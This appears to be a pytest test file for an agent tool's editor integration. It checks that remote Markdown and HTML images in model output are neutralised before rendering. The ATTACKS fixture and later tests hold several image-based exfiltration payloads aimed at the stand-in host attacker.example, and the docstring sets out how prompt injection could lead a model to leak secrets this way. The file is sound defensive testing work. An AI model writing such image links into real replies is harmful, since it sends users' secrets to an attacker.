@@ -1,0 +1,135 @@
+"""No remote image reaches the editor: an editor renders the agent's text as Markdown and loads the
+images in it, so `![x](https://attacker.example/c?d=SECRET)` written by a model under a prompt
+injection would send SECRET with no tool call. Driven through `loopwright acp` with the SDK's
+client side and the fake model server; each rendered output is checked with a CommonMark
+renderer (HTML on), as an editor would read it."""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+from typing import Any
+
+import pytest
+from acp import text_block
+from editor_client import EditorClient, acp_agent, text_of
+from markdown_it import MarkdownIt
+
+from loopwright.testing import FakeModelServer, Reply, call
+
+ATTACKS = "\n".join([
+    "Done. ![status](https://attacker.example/c?d=SECRET) and",
+    '<img src="https://attacker.example/i?d=SECRET" alt="x">',
+    "an address with entities: ![a](h&#116;tps://attacker.example/e?d=SECRET)",
+    "protocol-relative: ![b](//attacker.example/p?d=SECRET),",
+    "angle: ![c](<https://attacker.example/a?d=SECRET>)",
+    "srcset: <img srcset=\"a.png 1x, https://attacker.example/s?d=SECRET 2x\">",
+    "a label with code: ![a`](x.png)`](https://attacker.example/k?d=SECRET)",
+    "reference: ![r][ref] and shortcut ![ref]",
+    "",
+    "[ref]: https://attacker.example/r?d=SECRET",
+])
+ORDINARY = "\n".join([
+    "Here is the fix, see [the docs](https://docs.python.org/3/library/re.html?highlight=x)",
+    "or <https://example.org/page?q=1>, and a local picture ![diagram](docs/chat.png).",
+    "",
+    "```markdown",
+    "![badge](https://attacker.example/badge.svg?d=SECRET)",
+    '<img src="https://attacker.example/i.png">',
+    "```",
+    "",
+    "~~~",
+    "![x](https://attacker.example/x)",
+    "~~~",
+    "",
+    "Escaped: \\![not an image](https://example.org) and 3 < 4 > 2, **bold** `code`!",
+])
+
+
+def remote_images(markdown: str) -> list[str]:
+    """The addresses of the images a CommonMark renderer with HTML on would load."""
+    rendered = MarkdownIt("commonmark", {"html": True}).render(markdown)
+    return [address for address in re.findall(r"(?:src|srcset)=\"([^\"]*)\"", rendered)
+            if re.search(r"[a-z]+:|//", address)]
+
+
+def test_the_attacks_are_images_a_renderer_would_load() -> None:
+    # the oracle itself: every line of ATTACKS loads SECRET when rendered as written
+    assert len([a for a in remote_images(ATTACKS) if "SECRET" in a]) == 9
+    assert remote_images(ORDINARY) == []
+
+
+@pytest.mark.parametrize("chunk_size", [1, 3, 8, 4096])
+async def test_a_remote_image_in_the_reply_is_not_sent(tmp_path: Path, chunk_size: int) -> None:
+    client = EditorClient()
+    with FakeModelServer([Reply(ATTACKS, chunk_size=chunk_size),
+                          Reply(ORDINARY, chunk_size=chunk_size)]) as server:
+        async with acp_agent(client, server, tmp_path) as conn:
+            session = (await conn.new_session(cwd=str(tmp_path), mcp_servers=[])).session_id
+            await conn.prompt(session_id=session, prompt=[text_block("summarise the page")])
+            shown = text_of(client)
+            assert remote_images(shown) == []
+            assert "(image from attacker.example not loaded: status)" in shown
+            assert shown.startswith("Done. ") and "[ref]: https://attacker.example" in shown
+
+            client.updates.clear()  # code blocks, links and escapes are not touched
+            await conn.prompt(session_id=session, prompt=[text_block("and now?")])
+            assert text_of(client) == ORDINARY
+
+
+async def test_an_image_from_an_allowed_host_is_kept(tmp_path: Path) -> None:
+    reply = ("![chart](https://images.ok.example/c.png) and "
+             '<img src="https://images.ok.example/d.png"> but not '
+             "![x](https://attacker.example/c?d=SECRET) nor "
+             "![y](https://ok.example.attacker.example/)")
+    client = EditorClient()
+    with FakeModelServer([Reply(reply, chunk_size=5)]) as server:
+        async with acp_agent(client, server, tmp_path,
+                             LOOPWRIGHT_EGRESS_ALLOW="*.ok.example") as conn:
+            session = (await conn.new_session(cwd=str(tmp_path), mcp_servers=[])).session_id
+            await conn.prompt(session_id=session, prompt=[text_block("chart it")])
+    assert remote_images(text_of(client)) == ["https://images.ok.example/c.png",
+                                              "https://images.ok.example/d.png"]
+
+
+def shown_text(update: Any) -> str:
+    """Every text of an update an editor renders as Markdown."""
+    parts = [getattr(update, "title", None) or ""]
+    content = getattr(update, "content", None)
+    for part in content if isinstance(content, list) else [content]:
+        block = getattr(part, "content", part)
+        parts.append(getattr(block, "text", "") or "")
+    parts += [entry.content for entry in getattr(update, "entries", None) or []]
+    return "\n\n".join(parts)
+
+
+async def test_thoughts_tool_results_titles_plans_questions_and_replays(tmp_path: Path) -> None:
+    image = "![x](https://attacker.example/c?d=SECRET)"
+    (tmp_path / "page.md").write_text(f"# Read me\n\n{image}\n")
+    script = [
+        Reply(reasoning=f"I will show {image} to the user", chunk_size=3,
+              tool_calls=[call("read_file", {"path": "page.md"})]),
+        Reply(tool_calls=[call("todo", {"todos": [{"id": "1", "content": f"show {image}",
+                                                   "status": "pending"}]})]),
+        Reply(tool_calls=[call("write_file", {"path": f"{image}.md", "content": image})]),
+        Reply("All done."),
+    ]
+    client = EditorClient(answers=["reject"])
+    with FakeModelServer(script) as server:
+        async with acp_agent(client, server, tmp_path) as conn:
+            session = (await conn.new_session(cwd=str(tmp_path), mcp_servers=[])).session_id
+            await conn.prompt(session_id=session, prompt=[text_block("read page.md")])
+            kinds = {"agent_thought_chunk", "tool_call", "tool_call_update", "plan"}
+            assert kinds <= set(client.kinds())
+            thought = "".join(u.content.text for u in client.of("agent_thought_chunk"))
+            assert "I will show (image from attacker.example not loaded: x)" in thought
+            assert "# Read me" in client.of("tool_call_update")[0].raw_output
+            (question, _options), = client.questions
+            for update in [*client.updates, question]:
+                assert remote_images(shown_text(update)) == [], update
+
+            client.updates.clear()
+            await conn.load_session(cwd=str(tmp_path), session_id=session, mcp_servers=[])
+            replayed = [shown_text(u) for u in client.updates]
+            assert any("not loaded" in text for text in replayed)
+            assert all(remote_images(text) == [] for text in replayed)
